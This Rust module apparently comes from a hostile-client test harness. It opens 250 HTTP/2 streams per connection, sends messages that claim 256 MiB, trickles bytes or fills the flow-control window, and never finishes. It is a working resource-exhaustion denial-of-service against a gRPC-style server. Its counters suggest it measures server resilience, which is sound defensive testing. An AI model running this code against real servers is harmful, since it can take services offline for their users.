//! Messages that claim to be as large as a server takes, and never end.

use crate::AnyError;
use crate::hostile::attacker::Field;
use crate::hostile::wire::{MUTATE_ROW, Peer, finish, prefix};
use bytes::Bytes;
use h2::SendStream;
use std::future::poll_fn;
use std::sync::Arc;
use std::time::Duration;
use tokio::task::JoinSet;

/// Length that a message claims to have.
const CLAIMED_BYTES: u32 = 256 << 20;
/// Uploads under way on each connection.
const STREAMS: usize = 250;
const TRICKLE_PAUSE: Duration = Duration::from_millis(200);
const PIECE_BYTES: usize = 16 << 10;
const WINDOW: u32 = 64 << 10;

/// The speed at which bytes are sent.
#[derive(Debug, Clone, Copy)]
pub(super) enum Pace {
    /// A byte at a time.
    Trickle,
    /// All that the server takes.
    Full,
}

/// Uploads on many streams of one connection.
pub(super) async fn upload(field: Arc<Field>, pace: Pace) -> Result<(), AnyError> {
    let peer = Peer::connect(&field, WINDOW).await?;
    let mut uploads = JoinSet::new();
    for _ in 0..STREAMS {
        let (answer, mut stream) = peer.begin(MUTATE_ROW, None).await?;
        field.sent(1);
        stream.send_data(Bytes::copy_from_slice(&prefix(CLAIMED_BYTES)), false)?;
        let field = Arc::clone(&field);
        uploads.spawn(async move {
            tokio::select! {
                code = finish(answer) => field.answered(code?),
                ended = go_on(stream, pace) => ended?,
            }
            Ok::<(), AnyError>(())
        });
    }
    while uploads.join_next().await.is_some() {}
    if peer.is_open() { Ok(()) } else { Err("the connection was closed".into()) }
}

/// Sends bytes of the message, one less than it should have at most.
async fn go_on(mut stream: SendStream<Bytes>, pace: Pace) -> Result<(), AnyError> {
    let mut left = CLAIMED_BYTES as usize - 1;
    let piece = Bytes::from(vec![0; PIECE_BYTES]);
    while left > 0 {
        let len = match pace {
            Pace::Trickle => {
                tokio::time::sleep(TRICKLE_PAUSE).await;
                1
            }
            Pace::Full => capacity(&mut stream).await?.min(left),
        };
        stream.send_data(piece.slice(..len), false)?;
        left -= len;
    }
    std::future::pending().await
}

/// Waits until the server takes more of the stream; returns how many bytes at most.
async fn capacity(stream: &mut SendStream<Bytes>) -> Result<usize, AnyError> {
    stream.reserve_capacity(PIECE_BYTES);
    let granted = poll_fn(|context| stream.poll_capacity(context)).await;
    Ok(granted.ok_or("the stream was ended")??.min(PIECE_BYTES))
}
